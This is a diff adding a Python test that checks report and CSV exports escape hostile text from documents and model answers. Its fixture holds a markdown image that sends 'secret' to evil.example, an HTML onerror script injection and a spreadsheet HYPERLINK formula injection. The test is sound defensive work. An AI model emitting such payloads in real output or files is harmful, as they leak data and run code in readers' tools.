@@ -98,3 +98,30 @@ def test_empty_exports() -> None:
     assert json.loads(to_json([])) == {"results": []}
     assert to_markdown([]).startswith("# R&R Studio report")
     assert to_csv([]).strip() == ",".join(CSV_COLUMNS)
+
+
+def test_text_from_documents_and_models_cannot_act_in_reports_or_spreadsheets() -> None:
+    from rr_core.exports import md_escape, to_csv, to_markdown
+    from rr_core.runs import RunTrace
+
+    hostile = RunTrace(
+        method="rr",
+        question="What? ![x](https://evil.example/?d=secret)",
+        document="<img src=x onerror=alert(1)>.pdf",
+        document_sha256="0" * 64,
+        provider="offline",
+        model="offline",
+        is_llm=False,
+        settings={},
+        answer="=HYPERLINK(\"https://evil.example\", \"click\")",
+        page=3,
+    )
+    report = to_markdown([hostile])
+    import re
+
+    # Every markup character arrives escaped: no image to fetch, no HTML to run.
+    assert not re.search(r"(?<!\\)!(?<!\\)\[", report) and not re.search(r"(?<!\\)<img", report)
+    assert "\\!\\[x\\]\\(" in report and "\\<img" in report
+    assert md_escape("[a](b)") == "\\[a\\]\\(b\\)"
+    rows = to_csv([hostile]).splitlines()
+    assert "'=HYPERLINK" in rows[1]
